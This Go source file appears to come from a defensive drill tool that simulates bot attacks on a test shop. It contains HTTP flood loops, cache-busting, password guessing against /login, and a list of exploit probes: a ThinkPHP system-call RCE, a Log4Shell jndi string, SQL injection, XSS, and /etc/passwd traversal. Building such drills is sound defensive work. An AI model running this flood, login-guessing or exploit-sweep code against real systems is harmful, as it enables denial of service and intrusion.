package drill

import (
	"bufio"
	"context"
	"io"
	"net"
	"net/http"
	"strconv"
	"time"
)

// flood sends the requests that next writes, at the bot's rate, and reads the answers.
func flood(next func(b *bot, to []byte) []byte) weapon {
	return func(ctx context.Context, b *bot, c net.Conn) {
		r := bufio.NewReaderSize(c, 2<<10)
		buf := make([]byte, 0, 512)
		due := time.Now()
		for ctx.Err() == nil && !b.resting() {
			buf = next(b, buf[:0])
			_ = c.SetDeadline(time.Now().Add(10 * time.Second))
			b.stats.sent.Add(1)
			if _, err := c.Write(buf); err != nil {
				b.broke(ctx)
				return
			}
			resp, err := http.ReadResponse(r, nil)
			if err == nil {
				_, err = io.Copy(io.Discard, resp.Body)
			}
			if err != nil {
				b.broke(ctx)
				return
			}
			if resp.StatusCode < 400 {
				b.stats.answered.Add(1)
			} else {
				b.stats.refused.Add(1)
			}
			if resp.Close {
				return
			}
			if due = due.Add(b.every); b.every > 0 {
				// A bot whose answers come late does not catch up: the storm's rate is a ceiling.
				now := time.Now()
				if due.Before(now) {
					due = now
				}
				if !wait(ctx, due.Sub(now)) {
					return
				}
			}
		}
	}
}

// broke counts a request without an answer, unless the storm itself has ended it.
func (b *bot) broke(ctx context.Context) {
	if ctx.Err() == nil {
		b.stats.broken.Add(1)
	}
}

const botFields = " HTTP/1.1\r\nHost: " + shopHost + "\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\n\r\n"

func get(to []byte, path string) []byte {
	to = append(to, "GET "...)
	to = append(to, path...)
	return append(to, botFields...)
}

// onePage asks for one page that cannot be cached, again and again.
func onePage(_ *bot, to []byte) []byte { return get(to, "/api/stock/1") }

// anyPage walks over the whole shop.
func anyPage(b *bot, to []byte) []byte {
	n := strconv.Itoa(b.lot.IntN(50))
	switch b.lot.IntN(5) {
	case 0:
		return get(to, "/")
	case 1:
		return get(to, "/product/"+n)
	case 2:
		return get(to, "/category/"+n)
	case 3:
		return get(to, "/assets/shop.css")
	}
	return get(to, "/api/stock/"+n)
}

// bustCache makes each URL of three cacheable pages unique, Storm-1359's second weapon.
func bustCache(b *bot, to []byte) []byte {
	path := [...]string{"/product/1", "/category/2", "/feed.xml"}[b.lot.IntN(3)]
	return get(to, path+"?"+strconv.FormatUint(b.lot.Uint64(), 36)+"="+strconv.FormatUint(b.lot.Uint64(), 36))
}

// expensive asks for what costs the origin most.
func expensive(b *bot, to []byte) []byte {
	return get(to, "/search?q="+strconv.FormatUint(b.lot.Uint64()>>40, 36))
}

// guessPassword tries to sign in.
func guessPassword(b *bot, to []byte) []byte {
	form := "user=user" + strconv.Itoa(b.lot.IntN(1000)) + "&password=" + strconv.FormatUint(b.lot.Uint64()>>32, 36)
	to = append(to, "POST /login HTTP/1.1\r\nHost: "+shopHost+"\r\nUser-Agent: python-requests/2.32\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: "...)
	to = strconv.AppendInt(to, int64(len(form)), 10)
	return append(append(to, "\r\n\r\n"...), form...)
}

// exploits are paths that sweeps of the internet ask every server for; our own list of public classes.
var exploits = []string{
	"/.env", "/.git/config", "/wp-login.php", "/wp-content/plugins/file-manager/readme.txt", "/phpinfo.php", "/cgi-bin/luci/;stok=/locale", "/actuator/env", "/server-status",
	"/index.php?s=/index/think/app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id", "/?id=1%27%20OR%20%271%27=%271", "/product/1?q=%3Cscript%3Ealert(1)%3C/script%3E",
	"/..%2f..%2f..%2fetc/passwd", "/apps/graphapi/vendor/microsoft/microsoft-graph/tests/GetPhpInfo.php", "/?x=${jndi:ldap://127.0.0.1/a}", "/solr/admin/info/system", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
}

// sweepExploits tries one after the other.
func sweepExploits(b *bot, to []byte) []byte { return get(to, exploits[b.lot.IntN(len(exploits))]) }

// scrape reads the shop on odd URLs, slowly and for long, as crawlers from residential addresses do.
func scrape(b *bot, to []byte) []byte {
	return get(to, "/category/"+strconv.Itoa(b.lot.IntN(8))+"?page="+strconv.Itoa(b.lot.IntN(5000))+"&sort="+[...]string{"price", "name", "new"}[b.lot.IntN(3)]+"&view="+strconv.Itoa(b.lot.IntN(40)))
}

// mimicBrowser sends what browsers send.
func mimicBrowser(b *bot, to []byte) []byte {
	path := [...]string{"/", "/assets/shop.css", "/assets/shop.js", "/product/3", "/category/1?page=2", "/search?q=door"}[b.lot.IntN(6)]
	to = append(append(to, "GET "...), path...)
	return append(to, " HTTP/1.1\r\nHost: "+shopHost+"\r\nUser-Agent: "+firefox+"\r\nAccept: text/html,application/xhtml+xml,*/*;q=0.8\r\nAccept-Language: en-US,en;q=0.5\r\nAccept-Encoding: gzip, deflate, br\r\nConnection: keep-alive\r\nSec-Fetch-Dest: document\r\nSec-Fetch-Mode: navigate\r\nSec-Fetch-Site: none\r\n\r\n"...)
}

// handshake makes the door sign: TLS is ended as soon as it is up.
func handshake(ctx context.Context, b *bot, c net.Conn) {
	b.stats.sent.Add(1)
	b.stats.answered.Add(1)
	wait(ctx, b.every)
}
